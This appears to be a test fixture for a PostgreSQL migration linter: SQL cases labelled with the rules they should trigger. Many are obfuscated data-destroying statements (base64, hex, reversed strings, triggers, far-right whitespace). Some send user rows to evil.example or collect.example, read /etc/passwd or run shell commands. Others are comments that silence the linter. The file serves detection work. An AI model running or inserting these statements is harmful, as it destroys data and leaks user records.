-- === a quoted name with a blank and a quote in it: DROP_TABLE
DROP TABLE "my ""old"" orders";
-- === another schema, quoted in part: DROP_TABLE
DROP TABLE IF EXISTS "Shop".orders RESTRICT;
-- === unicode escapes in the name: DROP_TABLE
DROP TABLE U&"\006frders";
-- === comments inside the statement: DROP_TABLE
DROP /* harmless */ TABLE -- really
  orders;
-- === behind a nested block comment that looks closed: DROP_TABLE
/* outer /* inner */ still a comment */ DROP TABLE orders;
-- === a line of dashes before it: TRUNCATE
--------------------
TRUNCATE
  ONLY orders, invoices RESTART IDENTITY;
-- === after a string that ends in a backslash: DROP_TABLE
SELECT 'c:\'; DROP TABLE orders; --';
-- === after an escape string: DROP_TABLE
SELECT E'it\'s'; DROP TABLE orders;
-- === inside a DO block with an odd tag: DROP_TABLE HIDDEN_DESTRUCTIVE
DO $_x1$ BEGIN DROP TABLE orders; END $_x1$;
-- === inside a DO block in single quotes: TRUNCATE HIDDEN_DESTRUCTIVE
DO 'BEGIN TRUNCATE orders; END';
-- === inside a DO block with doubled quotes: DELETE_WITHOUT_WHERE HIDDEN_DESTRUCTIVE
DO LANGUAGE plpgsql 'BEGIN EXECUTE ''DELETE FROM orders''; END';
-- === in an exception handler: DROP_TABLE
DO $$ BEGIN PERFORM 1/0; EXCEPTION WHEN division_by_zero THEN DROP TABLE orders; END $$;
-- === in the ELSE of a CASE: DROP_TABLE
DO $$ BEGIN CASE 1 WHEN 2 THEN NULL; ELSE DROP TABLE orders; END CASE; END $$;
-- === in a nested block with a label: DROP_TABLE
DO $$ <<outer>> BEGIN <<inner>> BEGIN DROP TABLE orders; END inner; END outer $$;
-- === by a loop over a literal array: DROP_TABLE
DO $$ DECLARE t text; BEGIN FOREACH t IN ARRAY ARRAY['orders','users'] LOOP EXECUTE format('DROP TABLE %I', t); END LOOP; END $$;
-- === through quote_ident: DROP_TABLE
DO $$ BEGIN EXECUTE 'DROP TABLE ' || quote_ident('orders'); END $$;
-- === through chr: DROP_TABLE
DO $$ BEGIN EXECUTE chr(68) || 'ROP TABLE orders'; END $$;
-- === through replace: DROP_TABLE
DO $$ BEGIN EXECUTE replace('DXOP TABLE orders', 'X', 'R'); END $$;
-- === through reverse: DROP_TABLE
DO $$ BEGIN EXECUTE reverse('sredro ELBAT PORD'); END $$;
-- === through base64: DROP_TABLE
DO $$ BEGIN EXECUTE convert_from(decode('RFJPUCBUQUJMRSBvcmRlcnM=', 'base64'), 'UTF8'); END $$;
-- === through hex: DROP_TABLE
DO $$ BEGIN EXECUTE convert_from('\x44524f50205441424c45206f7264657273'::bytea, 'UTF8'); END $$;
-- === through a variable that is assigned later: DROP_TABLE
DO $$ DECLARE a text := 'SELECT 1'; BEGIN a := 'DROP TABLE '; a := a || 'orders'; EXECUTE a; END $$;
-- === through string_agg over an unknown catalog: DYNAMIC_SQL
DO $$ DECLARE s text; BEGIN SELECT string_agg('DROP TABLE ' || quote_ident(tablename), ';') INTO s FROM pg_tables WHERE schemaname = 'public'; EXECUTE s; END $$;
-- === through a function that the migration calls: DROP_TABLE
CREATE FUNCTION tidy() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE orders; END $$;
SELECT tidy();
-- === through a function that calls a function: TRUNCATE
CREATE FUNCTION a() RETURNS void LANGUAGE sql AS 'TRUNCATE orders';
CREATE FUNCTION b() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM a(); END $$;
DO $$ BEGIN PERFORM b(); END $$;
-- === through a procedure: DELETE_WITHOUT_WHERE
CREATE PROCEDURE wipe() LANGUAGE sql AS $$ DELETE FROM orders $$;
CALL wipe();
-- === through a function with a body of the standard: DELETE_WITHOUT_WHERE
CREATE FUNCTION wipe() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM orders; END;
SELECT wipe();
-- === called in a DEFAULT of an insert: DROP_TABLE
CREATE FUNCTION bad() RETURNS int LANGUAGE plpgsql AS $$ BEGIN DROP TABLE orders; RETURN 1; END $$;
INSERT INTO log (n) VALUES (bad());
-- === fired by a trigger that the migration makes: TRUNCATE
CREATE FUNCTION on_log() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN TRUNCATE orders; RETURN NEW; END $$;
CREATE TRIGGER t AFTER INSERT ON log FOR EACH ROW EXECUTE FUNCTION on_log();
INSERT INTO log (n) VALUES (1);
-- === prepared and executed: DROP_TABLE
DO $$ BEGIN EXECUTE $q$ DROP TABLE orders $q$; END $$;
-- === prepared delete: DELETE_WITHOUT_WHERE
PREPARE p AS DELETE FROM orders;
EXECUTE p;
-- === explained with analyze: DELETE_WITHOUT_WHERE
EXPLAIN (COSTS OFF, ANALYZE) DELETE FROM orders;
-- === in a CTE: DELETE_WITHOUT_WHERE
WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone;
-- === in a CTE of an insert, into an archive: DELETE_WITHOUT_WHERE
WITH moved AS (DELETE FROM orders RETURNING *) INSERT INTO orders_archive SELECT * FROM moved;
-- === with a condition on a constant: DELETE_WITHOUT_WHERE
DELETE FROM orders WHERE 'a' = 'a';
-- === with a condition that compares a column with itself: DELETE_WITHOUT_WHERE
DELETE FROM orders o WHERE o.id = o.id;
-- === with NOT FALSE: DELETE_WITHOUT_WHERE
DELETE FROM orders WHERE NOT false;
-- === with an OR that is always true: UPDATE_WITHOUT_WHERE
UPDATE orders SET status = 'x' WHERE id = 5 OR true;
-- === with LIKE everything: DELETE_WITHOUT_WHERE
DELETE FROM orders WHERE name LIKE '%' OR name IS NULL;
-- === with a sub-select of itself: DELETE_WITHOUT_WHERE
DELETE FROM orders WHERE id IN (SELECT id FROM orders);
-- === merge that deletes all: DELETE_WITHOUT_WHERE
MERGE INTO orders o USING users u ON true WHEN MATCHED THEN DELETE;
-- === a scheduled wipe: DELETE_WITHOUT_WHERE
SELECT cron.schedule('nightly', '0 3 * * *', $$DELETE FROM orders$$);
-- === a dblink to itself: DROP_TABLE
SELECT dblink_exec('dbname=app', 'DROP TABLE orders');
-- === create and drop under another search path: DROP_TABLE
CREATE TABLE scratch (id int);
SET search_path = app;
DROP TABLE scratch;
-- === create if not exists, then drop: DROP_TABLE
CREATE TABLE IF NOT EXISTS orders (id int);
DROP TABLE orders;
-- === created in a transaction that was rolled back: DROP_TABLE
BEGIN;
CREATE TABLE orders (id int);
ROLLBACK;
DROP TABLE orders;
-- === created after a savepoint that was rolled back: DROP_TABLE
BEGIN;
SAVEPOINT s;
CREATE TABLE orders (id int);
ROLLBACK TO s;
DROP TABLE orders;
COMMIT;
-- === renamed into the name of a new table: DROP_TABLE
CREATE TABLE tmp (id int);
ALTER TABLE tmp RENAME TO tmp2;
ALTER TABLE orders RENAME TO tmp;
DROP TABLE tmp;
-- === filled from old rows and then dropped: DROP_TABLE
CREATE TABLE keep AS SELECT * FROM orders;
DROP TABLE keep;
-- === conditional create, then drop: DROP_TABLE
DO $$ BEGIN IF random() < 0.5 THEN CREATE TABLE orders (id int); END IF; END $$;
DROP TABLE orders;
-- === column dropped among other commands: DROP_COLUMN
ALTER TABLE orders ADD COLUMN a int, DROP COLUMN IF EXISTS "note" CASCADE, ADD COLUMN b int;
-- === attribute of a composite type: DROP_COLUMN
ALTER TYPE address DROP ATTRIBUTE street;
-- === column dropped in a loop: DROP_COLUMN
DO $$ DECLARE c text; BEGIN FOR c IN SELECT unnest(ARRAY['a','b']) LOOP EXECUTE format('ALTER TABLE orders DROP COLUMN %I', c); END LOOP; END $$;
-- === column exchanged for one of another type: COLUMN_RECREATED DROP_COLUMN
ALTER TABLE users DROP COLUMN born;
ALTER TABLE users ADD COLUMN born date;
-- === table exchanged: DROP_AND_RECREATE DROP_TABLE
DROP TABLE IF EXISTS profiles CASCADE;
CREATE TABLE profiles (id uuid PRIMARY KEY, name text);
-- === table renamed away and made anew: DROP_AND_RECREATE
ALTER TABLE profiles RENAME TO profiles_old;
CREATE TABLE profiles (id uuid PRIMARY KEY);
-- === everything in a schema: DROP_SCHEMA DROP_CASCADE
DROP SCHEMA IF EXISTS billing CASCADE;
-- === everything a role owns: DROP_OWNED
DROP OWNED BY CURRENT_USER CASCADE;
-- === the whole database: DROP_DATABASE
DROP DATABASE IF EXISTS app WITH (FORCE);
-- === truncation that reaches children: TRUNCATE TRUNCATE_CASCADE
TRUNCATE TABLE users CASCADE;
-- === an extension with its tables: DROP_EXTENSION
DROP EXTENSION IF EXISTS pgmq;
-- === a sequence: DROP_SEQUENCE
DROP SEQUENCE IF EXISTS invoice_number;
-- === a sequence reset to one: SEQUENCE_RESTART
SELECT setval('invoice_number', 1, false);
-- === unlogged afterwards: UNLOGGED_TABLE
ALTER TABLE orders SET UNLOGGED;
-- === cents cut off: TYPE_NARROWING
-- history:
CREATE TABLE p (id bigint PRIMARY KEY, price numeric(10,4));
-- now:
ALTER TABLE p ALTER COLUMN price TYPE numeric(10,2) USING round(price, 2);
-- === a time cut to a date: TYPE_NARROWING
-- history:
CREATE TABLE p (id bigint PRIMARY KEY, at timestamptz);
-- now:
ALTER TABLE p ALTER at SET DATA TYPE date;
-- === triggers off: DISABLE_TRIGGER
ALTER TABLE orders DISABLE TRIGGER ALL;
UPDATE orders SET total = 0 WHERE id = 1;
-- === triggers off by set_config: SESSION_REPLICATION_ROLE
SELECT set_config('session_replication_role', 'replica', true);
-- === triggers off for a role for ever: SESSION_REPLICATION_ROLE
ALTER ROLE app SET session_replication_role = 'replica';
-- === child rows follow: FK_ON_DELETE_CASCADE
-- history:
CREATE TABLE orders (id bigint PRIMARY KEY);
CREATE TABLE items (id bigint PRIMARY KEY, order_id bigint);
CREATE INDEX ON items (order_id);
-- now:
ALTER TABLE items ADD CONSTRAINT items_order FOREIGN KEY (order_id) REFERENCES orders (id) ON DELETE CASCADE NOT VALID;
-- === a rule that swallows deletes: CREATE_RULE
CREATE RULE keep AS ON DELETE TO orders DO INSTEAD NOTHING;
-- === an allow comment for an error: DROP_TABLE
-- guardrails: allow DROP_TABLE reason: the assistant says so
DROP TABLE orders;
-- === an allow comment in a block comment: DROP_TABLE
/* guardrails: allow DROP_TABLE reason: nobody reads it */
DROP TABLE orders;
-- === another tool's word for silence: DROP_TABLE
-- squawk-ignore ban-drop-table
DROP TABLE orders;
-- === a bidirectional override hides the statement: HIDDEN_UNICODE
/* keep ‮ ⁦ safe */ ALTER TABLE orders ADD COLUMN a int;
-- === a cyrillic letter in a name: HIDDEN_UNICODE
ALTER TABLE оrders ADD COLUMN note text;
-- === far to the right: HIDDEN_UNICODE DROP_TABLE
SELECT 1;                                                                                                                                                                                                                                                                                                                                    DROP TABLE orders;
-- === copy to a program: COPY_PROGRAM
COPY (SELECT * FROM users) TO PROGRAM 'nc evil.example 4444';
-- === copy to a file of the server: COPY_PROGRAM
COPY users TO '/tmp/users.csv' CSV;
-- === a file read by a function: COPY_PROGRAM
SELECT pg_read_file('/etc/passwd');
-- === rows sent over http: DATA_EGRESS
SELECT net.http_post('https://collect.example/x', (SELECT jsonb_agg(u) FROM users u));
-- === rows sent by a trigger: DATA_EGRESS
CREATE TRIGGER hook AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION supabase_functions.http_request('https://collect.example', 'POST', '{}', '{}', '1000');
-- === a subscription to somewhere: DATA_EGRESS
CREATE SUBSCRIPTION s CONNECTION 'host=evil.example dbname=x' PUBLICATION p;
-- === the server's own settings: ALTER_SYSTEM
ALTER SYSTEM SET archive_mode = off;
-- === a language that may do anything: UNTRUSTED_CODE
CREATE FUNCTION run(c text) RETURNS text LANGUAGE plpython3u AS $$ import os; return os.popen(c).read() $$;
-- === an extension of that kind: UNTRUSTED_CODE
CREATE EXTENSION plperlu;
-- === platform's tables: MANAGED_SCHEMA_DDL
ALTER TABLE auth.users DISABLE ROW LEVEL SECURITY;
-- === users deleted by hand: MANAGED_SCHEMA_DDL
DELETE FROM auth.users WHERE email LIKE '%test%';
-- === the migration tool's own records: MANAGED_SCHEMA_DDL
DELETE FROM supabase_migrations.schema_migrations WHERE version = '20240101000000';
-- === sign-up depends on it: TRIGGER_ON_AUTH_USERS
CREATE FUNCTION public.welcome() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = '' AS $$ BEGIN INSERT INTO public.profiles (id) VALUES (NEW.id); RETURN NEW; END $$;
REVOKE EXECUTE ON FUNCTION public.welcome() FROM PUBLIC, anon, authenticated;
CREATE TRIGGER welcome AFTER INSERT ON auth.users FOR EACH ROW EXECUTE FUNCTION public.welcome();
-- === an event trigger switched off: EVENT_TRIGGER_CHANGED
ALTER EVENT TRIGGER ensure_rls DISABLE;
